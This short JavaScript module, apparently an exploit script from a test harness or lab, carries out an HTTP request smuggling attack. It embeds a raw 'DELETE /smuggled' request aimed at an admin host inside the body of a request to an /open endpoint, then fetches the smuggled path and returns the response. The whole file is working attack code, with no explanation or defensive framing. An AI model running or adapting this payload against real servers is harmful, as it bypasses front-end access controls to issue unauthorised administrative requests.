export default async (target) => {
  const smuggled = 'DELETE /smuggled HTTP/1.1\r\nhost: admin.example\r\n\r\n';
  await target.fetch({ url: `${target.api}/open/a`, body: smuggled });
  const answer = await target.fetch({ url: `${target.api}/open/smuggled` });
  return new TextDecoder().decode(answer.body);
};
